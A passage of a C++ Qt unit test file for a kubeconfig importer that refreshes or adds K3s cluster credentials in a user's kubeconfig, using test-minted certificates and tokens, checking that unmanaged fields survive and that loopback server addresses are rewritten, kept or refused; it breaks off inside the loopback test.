#include "credentials/credentialchecker.h"
#include "kubeconfig/kubeconfigpaths.h"
#include "kubeconfigbuilder.h"
#include "storage/backupstore.h"
#include "storage/kubeconfigwriter.h"
#include "testenvironment.h"
#include "testpki.h"
#include "transfer/kubeconfigimporter.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace kubeminder;
using test::KubeconfigBuilder;
using test::TestPki;

// Plans are computed from real certificates minted for a fixed "now"; files live in a fresh
// QTemporaryDir per test. The target kubeconfigs are written as text, like a person's file, with
// fields Kubeminder does not manage (extensions, preferences, unknown keys) to prove they survive.

namespace {

QString str(const char *utf8)
{
    return QString::fromUtf8(utf8);
}

QDateTime now()
{
    return test::fixedNow();
}

QString b64(const QByteArray &bytes)
{
    return QString::fromLatin1(bytes.toBase64());
}

QByteArray yamlOf(const YAML::Node &node)
{
    YAML::Emitter out;
    out << node;
    return QByteArray(out.c_str(), qsizetype(out.size()));
}

QString scalarOf(const YAML::Node &map, const char *key)
{
    const YAML::Node value = map[key];
    return value.IsDefined() && value.IsScalar() ? QString::fromStdString(value.Scalar()) : QString();
}

QStringList keysOf(const YAML::Node &map)
{
    QStringList keys;
    for (auto it = map.begin(); it != map.end(); ++it)
        keys << QString::fromStdString(it->first.Scalar());
    return keys;
}

// The entry of root[list] named `name` (an undefined node when there is none).
YAML::Node entry(const YAML::Node &root, const char *list, const QString &name)
{
    const YAML::Node items = root[list];
    if (items.IsDefined() && items.IsSequence()) {
        for (const YAML::Node &item : items) {
            if (scalarOf(item, "name") == name)
                return item;
        }
    }
    return YAML::Node(YAML::NodeType::Undefined);
}

QStringList namesOf(const YAML::Node &root, const char *list)
{
    QStringList names;
    const YAML::Node items = root[list];
    if (items.IsDefined() && items.IsSequence()) {
        for (const YAML::Node &item : items)
            names << scalarOf(item, "name");
    }
    return names;
}

// Everything in `before` that the import did not touch is in `after`, emitted identically and in
// the same order. `touched` holds "clusters/NAME", "users/NAME", "contexts/NAME", "current-context".
void compareUntouched(const YAML::Node &before, const YAML::Node &after, const QStringList &touched)
{
    QVERIFY(after.IsMap());
    QStringList afterKeys = keysOf(after);
    const QStringList beforeKeys = keysOf(before);
    QCOMPARE(afterKeys.mid(0, beforeKeys.size()), beforeKeys);
    for (const QString &key : beforeKeys) {
        const std::string k = key.toStdString();
        if (key == QLatin1String("clusters") || key == QLatin1String("users") ||
            key == QLatin1String("contexts")) {
            const QStringList beforeNames = namesOf(before, k.c_str());
            QCOMPARE(namesOf(after, k.c_str()).mid(0, beforeNames.size()), beforeNames);
            for (const QString &name : beforeNames) {
                if (touched.contains(key + QLatin1Char('/') + name))
                    continue;
                QCOMPARE(yamlOf(entry(after, k.c_str(), name)), yamlOf(entry(before, k.c_str(), name)));
            }
        } else if (!touched.contains(key)) {
            QCOMPARE(yamlOf(after[k]), yamlOf(before[k]));
        }
    }
}

const ImportChange *findChange(const ImportPlan &plan, ImportChange::Kind kind)
{
    for (const ImportChange &change : plan.changes) {
        if (change.kind == kind)
            return &change;
    }
    return nullptr;
}

ImportRequest requestFor(const QString &source, const QString &name = QStringLiteral("k3s"))
{
    ImportRequest request;
    request.source = source;
    request.name = name;
    return request;
}

std::optional<ImportPlan> plan(const KubeconfigSet &target, const QString &destination,
                               const KubeconfigDocument &source, const ImportRequest &request, QString *error)
{
    return KubeconfigImporter::plan(target, destination, source, request, ExpiryPolicy(), now(), error);
}

// Text with "%1"-style placeholders filled in, then written to `path`.
QString writeText(const QString &path, const QString &text)
{
    return test::writeFile(path, text.toUtf8());
}

struct Pki
{
    IssuedCertificate oldCa;
    IssuedCertificate freshCa;
    IssuedCertificate oldLeaf;
    IssuedCertificate freshLeaf;
    IssuedCertificate expiredLeaf;
    IssuedCertificate futureLeaf;
    IssuedCertificate strangerLeaf;
    QByteArray oldToken;
    QByteArray freshToken;
};

} // namespace

class TestKubeconfigImporter : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();

    void refreshInPlace_data();
    void refreshInPlace();
    void refreshUnchangedWritesNothing();
    void refreshWithServer();
    void sharedEntriesListed();
    void entriesSpreadOverFiles();
    void newContextInDestination_data();
    void newContextInDestination();
    void newDestinationFile_data();
    void newDestinationFile();
    void namespaceDefaultUntouched_data();
    void namespaceDefaultUntouched();
    void loopback_data();
    void loopback();
    void distributionQuirks_data();
    void distributionQuirks();
    void sourceCredentialsRefused_data();
    void sourceCredentialsRefused();
    void adviceForEachSurface_data();
    void adviceForEachSurface();
    void badSource_data();
    void badSource();
    void nameClash_data();
    void nameClash();
    void setCurrent_data();
    void setCurrent();
    void relativeSourcePathsAreEmbedded();
    void refreshDropsInsecureSkipTlsVerify();
    void refreshWithoutFreshCaKeepsCa();
    void brokenDestinationRefused();

    void applyRefreshEndToEnd();
    void applyNewFileEndToEnd();

    // What may cross from a source into the user's kubeconfig.
    void guardedFields_data();
    void guardedFields();
    void harmlessFieldsLeftOut_data();
    void harmlessFieldsLeftOut();
    void applyRefusesWithoutConsent();

private:
    // A K3s-style kubeconfig: cluster, user and context all called "default".
    KubeconfigBuilder k3sSource(const QString &server = QStringLiteral("https://127.0.0.1:6443"),
                                const QString &ns = {}) const;
    QString writeSource(const KubeconfigBuilder &builder) const
    {
        return builder.writeTo(m_dir->filePath(QStringLiteral("source/k3s.yaml")));
    }
    // The user's kubeconfig for refresh tests: context k3s -> cluster `clusterName`, user `userName`,
    // with old credentials of `kind` ("cert", "cert-files", "token"), plus an unrelated "other".
    QString writeRefreshTarget(const QString &clusterName, const QString &userName,
                               const QString &kind) const;
    // A source in source/k3s.yaml whose cluster, user and context bodies are given as YAML (the
    // defaults are K3s's), with pki/ files and token.txt next to it for bodies that name files.
    KubeconfigDocument writeSourceText(const QString &clusterBody, const QString &userBody,
                                       const QString &contextBody) const;

    Pki m_pki;
    std::unique_ptr<QTemporaryDir> m_dir;
};

void TestKubeconfigImporter::initTestCase()
{
    test::setUpTestEnvironment();
    const QDateTime t = now();
    m_pki.oldCa = TestPki::ca(str("old-server-ca"), t.addYears(-2), t.addDays(20));
    m_pki.freshCa = TestPki::ca(str("k3s-server-ca"), t.addSecs(-3600), t.addYears(10));
    m_pki.oldLeaf = TestPki::leaf(m_pki.oldCa, str("system:admin"), t.addDays(-368), t.addDays(-3));
    m_pki.freshLeaf = TestPki::leaf(m_pki.freshCa, str("system:admin"), t.addSecs(-3600), t.addDays(365));
    m_pki.expiredLeaf = TestPki::leaf(m_pki.freshCa, str("system:admin"), t.addDays(-400), t.addDays(-1));
    m_pki.futureLeaf = TestPki::leaf(m_pki.freshCa, str("system:admin"), t.addDays(2), t.addDays(400));
    m_pki.strangerLeaf = TestPki::leaf(m_pki.freshCa, str("stranger"), t.addSecs(-3600), t.addDays(365));
    m_pki.oldToken = TestPki::jwt(t.addDays(-1));
    m_pki.freshToken = TestPki::jwt(t.addDays(90));
}

void TestKubeconfigImporter::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
}

KubeconfigBuilder TestKubeconfigImporter::k3sSource(const QString &server, const QString &ns) const
{
    const QString name = str("default");
    KubeconfigBuilder builder;
    // K3s appends its client CA to the client certificate.
    builder.cluster(name, server, m_pki.freshCa.certificatePem)
        .certificateUser(name, m_pki.freshLeaf, m_pki.freshCa.certificatePem)
        .context(name, name, name, ns)
        .currentContext(name);
    return builder;
}

QString TestKubeconfigImporter::writeRefreshTarget(const QString &clusterName, const QString &userName,
                                                   const QString &kind) const
{
    QString ca;
    QString credentials;
    if (kind == QLatin1String("cert")) {
        ca = str("certificate-authority-data: ") + b64(m_pki.oldCa.certificatePem);
        credentials = str("client-certificate-data: %1\n    client-key-data: %2")
                          .arg(b64(m_pki.oldLeaf.certificatePem), b64(m_pki.oldLeaf.privateKeyPem));
    } else if (kind == QLatin1String("cert-files")) {
        const QString pki = m_dir->filePath(str("home/pki"));
        ca = str("certificate-authority: ") +
             test::writeFile(pki + str("/ca.crt"), m_pki.oldCa.certificatePem);
        credentials = str("client-certificate: %1\n    client-key: %2")
                          .arg(test::writeFile(pki + str("/client.crt"), m_pki.oldLeaf.certificatePem),
                               test::writeFile(pki + str("/client.key"), m_pki.oldLeaf.privateKeyPem));
    } else {
        ca = str("certificate-authority-data: ") + b64(m_pki.oldCa.certificatePem);
        credentials = str("token: ") + QString::fromLatin1(m_pki.oldToken);
    }
    const QString text = str(R"(apiVersion: v1
kind: Config
preferences:
  colors: true
clusters:
- name: other
  cluster:
    server: https://other.example.net:6443
- name: %1
  cluster:
    server: https://k3s.example.net:6443
    %3
    tls-server-name: k3s.internal
    extensions:
    - name: kubeminder.test/marker
      extension:
        kept: "yes"
    x-unknown-cluster: kept
users:
- name: other
  user:
    token: other-token
- name: %2
  user:
    as: someone
    %4
    extensions:
    - name: kubeminder.test/marker
      extension:
        kept: "yes"
    x-unknown-user: kept
contexts:
- name: other
  context:
    cluster: other
    user: other
    namespace: default
- name: k3s
  context:
    cluster: %1
    user: %2
    namespace: team-a
    extensions:
    - name: kubeminder.test/marker
      extension:
        kept: "yes"
current-context: other
x-top-level: kept
)")
                             .arg(clusterName, userName, ca, credentials);
    return writeText(m_dir->filePath(str("home/config")), text);
}

KubeconfigDocument TestKubeconfigImporter::writeSourceText(const QString &clusterBody,
                                                           const QString &userBody,
                                                           const QString &contextBody) const
{
    const QString folder = m_dir->filePath(str("source"));
    test::writeFile(folder + str("/pki/client.crt"), m_pki.freshLeaf.certificatePem);
    test::writeFile(folder + str("/pki/client.key"), m_pki.freshLeaf.privateKeyPem);
    test::writeFile(folder + str("/pki/ca.crt"), m_pki.freshCa.certificatePem);
    test::writeFile(folder + str("/token.txt"), m_pki.freshToken + "\n");
    const QString defaultCluster = str("server: https://127.0.0.1:6443\n    certificate-authority-data: ") +
                                   b64(m_pki.freshCa.certificatePem);
    const auto fill = [](const QString &body, const QString &defaults) {
        return body.isEmpty() ? defaults : body.contains(QLatin1String("%1")) ? body.arg(defaults) : body;
    };
    const QString defaultUser =
        str("client-certificate-data: %1\n    client-key-data: %2")
            .arg(b64(m_pki.freshLeaf.certificatePem), b64(m_pki.freshLeaf.privateKeyPem));
    const QString text =
        str(R"(apiVersion: v1
kind: Config
clusters:
- name: default
  cluster:
    %1
users:
- name: default
  user:
    %2
contexts:
- name: default
  context:
    cluster: default
    user: default
    %3
current-context: default
)")
            .arg(fill(clusterBody, defaultCluster), fill(userBody, defaultUser), contextBody);
    return KubeconfigDocument::load(writeText(folder + str("/k3s.yaml"), text));
}

void TestKubeconfigImporter::refreshInPlace_data()
{
    QTest::addColumn<QString>("targetKind");
    QTest::addColumn<QString>("sourceKind");
    QTest::addColumn<QString>("clusterName");
    QTest::addColumn<QString>("userName");

    QTest::newRow("certificate user") << str("cert") << str("cert") << str("k3s") << str("k3s");
    QTest::newRow("certificate user, entries named differently")
        << str("cert") << str("cert") << str("prod-cluster") << str("admin@prod");
    QTest::newRow("certificate files replaced by data")
        << str("cert-files") << str("cert") << str("k3s") << str("k3s");
    QTest::newRow("token user") << str("token") << str("token") << str("k3s") << str("k3s");
    QTest::newRow("token user gets a certificate") << str("token") << str("cert") << str("k3s") << str("k3s");
}

void TestKubeconfigImporter::refreshInPlace()
{
    QFETCH(QString, targetKind);
    QFETCH(QString, sourceKind);
    QFETCH(QString, clusterName);
    QFETCH(QString, userName);

    const QString targetPath = writeRefreshTarget(clusterName, userName, targetKind);
    KubeconfigBuilder builder = k3sSource();
    if (sourceKind == QLatin1String("token")) {
        builder = KubeconfigBuilder();
        builder.cluster(str("default"), str("https://127.0.0.1:6443"), m_pki.freshCa.certificatePem)
            .tokenUser(str("default"), m_pki.freshToken)
            .context(str("default"), str("default"), str("default"))
            .currentContext(str("default"));
    }
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(builder));
    const KubeconfigSet target = KubeconfigSet::load({targetPath});

    QString error;
    const auto result = plan(target, targetPath, source, requestFor(source.path()), &error);
    QVERIFY2(result, qPrintable(error));
    QVERIFY(error.isEmpty());
    QVERIFY(result->refresh);
    QCOMPARE(result->edits.keys(), QStringList{targetPath});
    const KubeconfigEdit &edit = result->edits.first();
    QVERIFY(!edit.createsFile());
    QCOMPARE(edit.original().bytes(), target.documents().front().bytes());

    // The user: fresh credentials where the old ones were, every other field as it was.
    const YAML::Node user = entry(edit.root(), "users", userName)["user"];
    QStringList expectedKeys{str("as")};
    if (sourceKind == QLatin1String("token"))
        expectedKeys << str("token");
    else
        expectedKeys << str("client-certificate-data") << str("client-key-data");
    expectedKeys << str("extensions") << str("x-unknown-user");
    QCOMPARE(keysOf(user), expectedKeys);
    const YAML::Node oldUser = entry(target.documents().front().root(), "users", userName)["user"];
    QCOMPARE(yamlOf(user["extensions"]), yamlOf(oldUser["extensions"]));
    QCOMPARE(scalarOf(user, "as"), str("someone"));
    QCOMPARE(scalarOf(user, "x-unknown-user"), str("kept"));
    if (sourceKind == QLatin1String("token")) {
        QCOMPARE(scalarOf(user, "token"), QString::fromLatin1(m_pki.freshToken));
    } else {
        QCOMPARE(scalarOf(user, "client-certificate-data"),
                 b64(m_pki.freshLeaf.certificatePem + m_pki.freshCa.certificatePem));
        QCOMPARE(scalarOf(user, "client-key-data"), b64(m_pki.freshLeaf.privateKeyPem));
    }

    // The cluster: the fresh CA where the old one was; server, tls-server-name and the rest kept.
    const YAML::Node cluster = entry(edit.root(), "clusters", clusterName)["cluster"];
    QCOMPARE(keysOf(cluster),
             (QStringList{str("server"), str("certificate-authority-data"), str("tls-server-name"),
                          str("extensions"), str("x-unknown-cluster")}));
    QCOMPARE(scalarOf(cluster, "server"), str("https://k3s.example.net:6443"));
    QCOMPARE(scalarOf(cluster, "certificate-authority-data"), b64(m_pki.freshCa.certificatePem));
    QCOMPARE(scalarOf(cluster, "tls-server-name"), str("k3s.internal"));

    // Names, the context (namespace included) and every other entry: untouched.
    QCOMPARE(scalarOf(entry(edit.root(), "users", userName), "name"), userName);
    QCOMPARE(scalarOf(entry(edit.root(), "clusters", clusterName), "name"), clusterName);
    compareUntouched(target.documents().front().root(), edit.root(),
                     {str("clusters/") + clusterName, str("users/") + userName});
    if (QTest::currentTestFailed())
        return;

    // Old and new expiry for --dry-run.
    const ImportChange *userChange = findChange(*result, ImportChange::Kind::RefreshUser);
    QVERIFY(userChange);
    QCOMPARE(userChange->entry, userName);
    QCOMPARE(userChange->file, targetPath);
    QVERIFY(userChange->oldExpiry && userChange->newExpiry);
    QCOMPARE(*userChange->oldExpiry,
             targetKind == QLatin1String("token") ? now().addDays(-1) : now().addDays(-3));
    QCOMPARE(*userChange->newExpiry,
             sourceKind == QLatin1String("token") ? now().addDays(90) : now().addDays(365));
    const ImportChange *clusterChange = findChange(*result, ImportChange::Kind::RefreshCluster);
    QVERIFY(clusterChange);
    QCOMPARE(clusterChange->entry, clusterName);
    QVERIFY(clusterChange->oldExpiry && clusterChange->newExpiry);
    QCOMPARE(*clusterChange->oldExpiry, now().addDays(20));
    QCOMPARE(*clusterChange->newExpiry, now().addYears(10));
    QCOMPARE(result->changes.size(), std::size_t(2));
    QVERIFY(result->sharedBy.isEmpty());
    QCOMPARE(result->newCredential.notAfter,
             std::optional<QDateTime>(sourceKind == QLatin1String("token") ? now().addDays(90)
                                                                           : now().addDays(365)));
    const bool kindChanged =
        targetKind.startsWith(QLatin1String("cert")) != (sourceKind == QLatin1String("cert"));
    // A change of credential kind is not written without a yes.
    QCOMPARE(result->needsConsent(), kindChanged);
    if (kindChanged) {
        QCOMPARE(result->guarded.size(), std::size_t(1));
        QCOMPARE(result->guarded.front().field, str("credential kind"));
        QCOMPARE(result->guarded.front().detail, str("token → certificate"));
    }
}

void TestKubeconfigImporter::refreshUnchangedWritesNothing()
{
    // The user's file already holds what the source has: nothing to write.
    KubeconfigBuilder user;
    user.cluster(str("k3s"), str("https://k3s.example.net:6443"), m_pki.freshCa.certificatePem)
        .certificateUser(str("k3s"), m_pki.freshLeaf, m_pki.freshCa.certificatePem)
        .context(str("k3s"), str("k3s"), str("k3s"));
    const QString targetPath = user.writeTo(m_dir->filePath(str("home/config")));
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(k3sSource()));
    QString error;
    const auto result =
        plan(KubeconfigSet::load({targetPath}), targetPath, source, requestFor(source.path()), &error);
    QVERIFY2(result, qPrintable(error));
    QVERIFY(result->refresh);
    QVERIFY(result->edits.isEmpty());
    QVERIFY(result->changes.empty());
    QVERIFY(result->warnings.join(QLatin1Char('\n')).contains(QLatin1String("nothing to change")));
}

void TestKubeconfigImporter::refreshWithServer()
{
    const QString targetPath = writeRefreshTarget(str("k3s"), str("k3s"), str("cert"));
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(k3sSource()));
    ImportRequest request = requestFor(source.path());
    request.server = str("https://10.0.0.5:6443");
    request.ns = str("elsewhere");
    QString error;
    const auto result = plan(KubeconfigSet::load({targetPath}), targetPath, source, request, &error);
    QVERIFY2(result, qPrintable(error));
    const YAML::Node cluster = entry(result->edits.first().root(), "clusters", str("k3s"))["cluster"];
    QCOMPARE(keysOf(cluster).front(), str("server"));
    QCOMPARE(scalarOf(cluster, "server"), str("https://10.0.0.5:6443"));
    // --namespace does not apply to a refresh, and the plan says so.
    QCOMPARE(scalarOf(entry(result->edits.first().root(), "contexts", str("k3s"))["context"], "namespace"),
             str("team-a"));
    QVERIFY(result->warnings.join(QLatin1Char('\n')).contains(QLatin1String("--namespace")));
}

void TestKubeconfigImporter::sharedEntriesListed()
{
    KubeconfigBuilder user;
    user.cluster(str("c"), str("https://k3s.example.net:6443"), m_pki.oldCa.certificatePem)
        .cluster(str("elsewhere"), str("https://elsewhere.example.net"))
        .certificateUser(str("u"), m_pki.oldLeaf)
        .tokenUser(str("robot"), "opaque")
        .context(str("a-ops"), str("elsewhere"), str("u"))
        .context(str("k3s"), str("c"), str("u"))
        .context(str("b-monitor"), str("c"), str("robot"))
        .context(str("unrelated"), str("elsewhere"), str("robot"));
    const QString targetPath = user.writeTo(m_dir->filePath(str("home/config")));
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(k3sSource()));
    QString error;
    const auto result =
        plan(KubeconfigSet::load({targetPath}), targetPath, source, requestFor(source.path()), &error);
    QVERIFY2(result, qPrintable(error));
    QCOMPARE(result->sharedBy, (QStringList{str("a-ops"), str("b-monitor")}));
    const QString warnings = result->warnings.join(QLatin1Char('\n'));
    QVERIFY2(warnings.contains(str("User “u” is shared")) && warnings.contains(str("“a-ops”")),
             qPrintable(warnings));
    QVERIFY2(warnings.contains(str("Cluster “c” is shared")) && warnings.contains(str("“b-monitor”")),
             qPrintable(warnings));
    QVERIFY(!warnings.contains(str("unrelated")));
}

void TestKubeconfigImporter::entriesSpreadOverFiles()
{
    // The context in A, its cluster in B, its user in C; D defines the same user again but is
    // hidden by C (first file wins), so it must not change.
    KubeconfigBuilder a;
    a.context(str("k3s"), str("c"), str("u"), str("default")).currentContext(str("k3s"));
    KubeconfigBuilder b;
    b.cluster(str("c"), str("https://k3s.example.net:6443"), m_pki.oldCa.certificatePem)
        .cluster(str("b-other"), str("https://b.example.net"));
    b.root()["preferences"]["colors"] = true;
    KubeconfigBuilder c;
    c.tokenUser(str("c-other"), "opaque").certificateUser(str("u"), m_pki.oldLeaf);
    KubeconfigBuilder d;
    d.certificateUser(str("u"), m_pki.oldLeaf);
    const QString pathA = a.writeTo(m_dir->filePath(str("a.yaml")));
    const QString pathB = b.writeTo(m_dir->filePath(str("b.yaml")));
    const QString pathC = c.writeTo(m_dir->filePath(str("c.yaml")));
    const QString pathD = d.writeTo(m_dir->filePath(str("d.yaml")));
    const KubeconfigSet target = KubeconfigSet::load({pathA, pathB, pathC, pathD});
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(k3sSource()));

    QString error;
    const auto result = plan(target, pathA, source, requestFor(source.path()), &error);
    QVERIFY2(result, qPrintable(error));
    QVERIFY(result->refresh);
    QCOMPARE(result->edits.keys(), (QStringList{pathB, pathC}));
    QCOMPARE(findChange(*result, ImportChange::Kind::RefreshCluster)->file, pathB);
    QCOMPARE(findChange(*result, ImportChange::Kind::RefreshUser)->file, pathC);
    QCOMPARE(result->edits.value(pathB).original().path(), pathB);
    QCOMPARE(result->edits.value(pathB).original().bytes(), target.documents()[1].bytes());
    QCOMPARE(result->edits.value(pathC).original().bytes(), target.documents()[2].bytes());
    compareUntouched(target.documents()[1].root(), result->edits.value(pathB).root(), {str("clusters/c")});
    compareUntouched(target.documents()[2].root(), result->edits.value(pathC).root(), {str("users/u")});
    QCOMPARE(scalarOf(entry(result->edits.value(pathC).root(), "users", str("u"))["user"], "client-key-data"),
             b64(m_pki.freshLeaf.privateKeyPem));
}

void TestKubeconfigImporter::newContextInDestination_data()
{
    QTest::addColumn<QString>("ns");
    QTest::addColumn<QString>("expectedNs");
    QTest::newRow("namespace from the source") << QString() << str("apps");
    QTest::newRow("--namespace") << str("team-b") << str("team-b");
}

void TestKubeconfigImporter::newContextInDestination()
{
    QFETCH(QString, ns);
    QFETCH(QString, expectedNs);

    KubeconfigBuilder a;
    a.cluster(str("a"), str("https://a.example.net")).tokenUser(str("a"), "opaque");
    a.context(str("a"), str("a"), str("a")).currentContext(str("a"));
    const QString pathA = a.writeTo(m_dir->filePath(str("a.yaml")));
    const QString pathB = writeText(m_dir->filePath(str("b.yaml")), str(R"(# the user's own comment
apiVersion: v1
kind: Config
preferences:
  extensions:
  - name: kubeminder.test/marker
    extension:
      kept: "yes"
clusters:
- name: b
  cluster:
    server: https://b.example.net
    x-unknown: kept
users:
- name: b
  user:
    token: opaque
contexts:
- name: b
  context:
    cluster: b
    user: b
    namespace: default
x-top-level: kept
)"));
    const KubeconfigSet target = KubeconfigSet::load({pathA, pathB});
    const KubeconfigDocument source =
        KubeconfigDocument::load(writeSource(k3sSource(str("https://127.0.0.1:6443"), str("apps"))));
    ImportRequest request = requestFor(source.path());
    request.server = str("https://k3s.example.net:6443");
    request.ns = ns;

    QString error;
    const auto result = plan(target, pathB, source, request, &error);
    QVERIFY2(result, qPrintable(error));
    QVERIFY(!result->refresh);
    QCOMPARE(result->edits.keys(), QStringList{pathB});
    const KubeconfigEdit &edit = result->edits.first();
    QVERIFY(!edit.createsFile());
    compareUntouched(target.documents()[1].root(), edit.root(), {});
    QCOMPARE(namesOf(edit.root(), "clusters"), (QStringList{str("b"), str("k3s")}));
    QCOMPARE(namesOf(edit.root(), "users"), (QStringList{str("b"), str("k3s")}));
    QCOMPARE(namesOf(edit.root(), "contexts"), (QStringList{str("b"), str("k3s")}));

    const YAML::Node cluster = entry(edit.root(), "clusters", str("k3s"))["cluster"];
    QCOMPARE(scalarOf(cluster, "server"), str("https://k3s.example.net:6443"));
    QCOMPARE(scalarOf(cluster, "certificate-authority-data"), b64(m_pki.freshCa.certificatePem));
    const YAML::Node user = entry(edit.root(), "users", str("k3s"))["user"];
    QCOMPARE(scalarOf(user, "client-key-data"), b64(m_pki.freshLeaf.privateKeyPem));
    const YAML::Node context = entry(edit.root(), "contexts", str("k3s"))["context"];
    QCOMPARE(scalarOf(context, "cluster"), str("k3s"));
    QCOMPARE(scalarOf(context, "user"), str("k3s"));
    QCOMPARE(scalarOf(context, "namespace"), expectedNs);
    QVERIFY2(result->warnings.isEmpty(), qPrintable(result->warnings.join(QLatin1Char('\n'))));

    QCOMPARE(result->changes.size(), std::size_t(3));
    const ImportChange *addUser = findChange(*result, ImportChange::Kind::AddUser);
    QVERIFY(addUser);
    QCOMPARE(addUser->file, pathB);
    QVERIFY(!addUser->oldExpiry);
    QCOMPARE(addUser->newExpiry, std::optional<QDateTime>(now().addDays(365)));
    QVERIFY(findChange(*result, ImportChange::Kind::AddCluster));
    QVERIFY(findChange(*result, ImportChange::Kind::AddContext));
}

void TestKubeconfigImporter::newDestinationFile_data()
{
    QTest::addColumn<bool>("listed");
    QTest::newRow("not loaded") << false;
    QTest::newRow("listed in KUBECONFIG but missing") << true;
}

void TestKubeconfigImporter::newDestinationFile()
{
    QFETCH(bool, listed);
    KubeconfigBuilder a;
    a.cluster(str("a"), str("https://a.example.net")).tokenUser(str("a"), "opaque");
    a.context(str("a"), str("a"), str("a"));
    const QString pathA = a.writeTo(m_dir->filePath(str("a.yaml")));
    const QString destination = m_dir->filePath(str("home/.kube/config"));
    const KubeconfigSet target =
        KubeconfigSet::load(listed ? QStringList{destination, pathA} : QStringList{pathA});
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(k3sSource()));

    QString error;
    const auto result = plan(target, destination, source, requestFor(source.path()), &error);
    QVERIFY2(result, qPrintable(error));
    QCOMPARE(result->edits.keys(), QStringList{destination});
    const KubeconfigEdit &edit = result->edits.first();
    QVERIFY(edit.createsFile());
    QCOMPARE(scalarOf(edit.root(), "apiVersion"), str("v1"));
    QCOMPARE(scalarOf(edit.root(), "kind"), str("Config"));
    QCOMPARE(namesOf(edit.root(), "clusters"), QStringList{str("k3s")});
    QCOMPARE(namesOf(edit.root(), "users"), QStringList{str("k3s")});
    QCOMPARE(namesOf(edit.root(), "contexts"), QStringList{str("k3s")});
    // The source is a local file: its loopback address is kept, with a warning.
    QCOMPARE(scalarOf(entry(edit.root(), "clusters", str("k3s"))["cluster"], "server"),
             str("https://127.0.0.1:6443"));
    QCOMPARE(result->warnings.size(), 1);
}

void TestKubeconfigImporter::namespaceDefaultUntouched_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<bool>("existing");

    // k3sup replaced "default" everywhere, namespaces included.
    QTest::newRow("import as k3s") << str("k3s") << false;
    QTest::newRow("import as default") << str("default") << false;
    QTest::newRow("refresh default") << str("default") << true;
}

void TestKubeconfigImporter::namespaceDefaultUntouched()
{
    QFETCH(QString, name);
    QFETCH(bool, existing);

    KubeconfigBuilder user;
    user.cluster(str("prod"), str("https://prod.example.net"), m_pki.oldCa.certificatePem)
        .certificateUser(str("prod"), m_pki.oldLeaf)
        .context(str("prod"), str("prod"), str("prod"), str("default"));
    if (existing) {
        user.cluster(str("default"), str("https://k3s.example.net:6443"), m_pki.oldCa.certificatePem)
            .certificateUser(str("default"), m_pki.oldLeaf)
            .context(str("default"), str("default"), str("default"), str("default"));
    }
    const QString targetPath = user.writeTo(m_dir->filePath(str("home/config")));
    const KubeconfigSet target = KubeconfigSet::load({targetPath});
    const KubeconfigDocument source =
        KubeconfigDocument::load(writeSource(k3sSource(str("https://127.0.0.1:6443"), str("default"))));
    ImportRequest request = requestFor(source.path(), name);
    request.server = str("https://k3s.example.net:6443");

    QString error;
    const auto result = plan(target, targetPath, source, request, &error);
    QVERIFY2(result, qPrintable(error));
    QCOMPARE(result->refresh, existing);
    const YAML::Node root = result->edits.first().root();
    QStringList touched{str("clusters/") + name, str("users/") + name};
    compareUntouched(target.documents().front().root(), root, touched);
    const YAML::Node context = entry(root, "contexts", name)["context"];
    QCOMPARE(scalarOf(context, "namespace"), str("default"));
    QCOMPARE(scalarOf(context, "cluster"), name);
    QCOMPARE(scalarOf(context, "user"), name);
    QCOMPARE(scalarOf(entry(root, "contexts", str("prod"))["context"], "namespace"), str("default"));
    QVERIFY(!root.IsNull());
    // Nothing outside the names was renamed: no "k3s" namespace, no stray "default" entries.
    if (name == QLatin1String("k3s")) {
        QVERIFY(!namesOf(root, "clusters").contains(str("default")));
        QVERIFY(!namesOf(root, "users").contains(str("default")));
    }
}

void TestKubeconfigImporter::loopback_data()
{
    QTest::addColumn<QString>("sourceServer");
    QTest::addColumn<QString>("server");
    QTest::addColumn<bool>("local");
    QTest::addColumn<QString>("expectedServer"); // empty: refused
    QTest::addColumn<bool>("warning");
    QTest::addColumn<QString>("loopbackHost"); // fetched over SSH from this host

    const QString remote = str("https://k3s.example.net:6443");
    QTest::newRow("127.0.0.1 rewritten")
        << str("https://127.0.0.1:6443") << remote << true << remote << false << QString();
    QTest::newRow("localhost rewritten, remote source")
        << str("https://localhost:6443") << remote << false << remote << false << QString();
    QTest::newRow("[::1] rewritten") << str("https://[::1]:16443") << remote << false << remote << false
                                     << QString();
    QTest::newRow("127.0.0.1 kept for a local file") << str("https://127.0.0.1:6443") << QString() << true
                                                     << str("https://127.0.0.1:6443") << true << QString();
    QTest::newRow("0.0.0.0 kept for a local file") << str("https://0.0.0.0:6443") << QString() << true
                                                   << str("https://0.0.0.0:6443") << true << QString();
    QTest::newRow("[::1] kept for a local file")
        << str("https://[::1]:6443") << QString() << true << str("https://[::1]:6443") << true << QString();
    QTest::newRow("127.0.0.2, any port, remote: refused")
        << str("https://127.0.0.2:16443") << QString() << false << QString() << false << QString();
    QTest::newRow("localhost, remote: refused")
        << str("https://LOCALHOST") << QString() << false << QString() << false << QString();
    QTest::newRow("public address kept") << str("https://192.0.2.10:6443") << QString() << false
                                         << str("https://192.0.2.10:6443") << false << QString();
    QTest::newRow("public address replaced")
        << str("https://192.0.2.10:6443") << remote << false << remote << false << QString();
    QTest::newRow("invalid --server refused")
        << str("https://127.0.0.1:6443") << str("k3s.example.net") << true << QString() << false << QString();
    QTest::newRow("fetched over SSH: the connected host, same port")
        << str("https://127.0.0.1:16443") << QString() << false << str("https://pi.lan:16443") << true
        << str("pi.lan");
    QTest::newRow("fetched over SSH from an IPv6 address")
        << str("https://127.0.0.1:6443") << QString() << false << str("https://[2001:db8::7]:6443") << true
        << str("2001:db8::7");
    QTest::newRow("fetched over SSH, --server wins")
        << str("https://127.0.0.1:6443") << remote << false << remote << false << str("pi.lan");
}

void TestKubeconfigImporter::loopback()
{
    QFETCH(QString, sourceServer);
    QFETCH(QString, server);
    QFETCH(bool, local);
    QFETCH(QString, expectedServer);
    QFETCH(bool, warning);
    QFETCH(QString, loopbackHost);

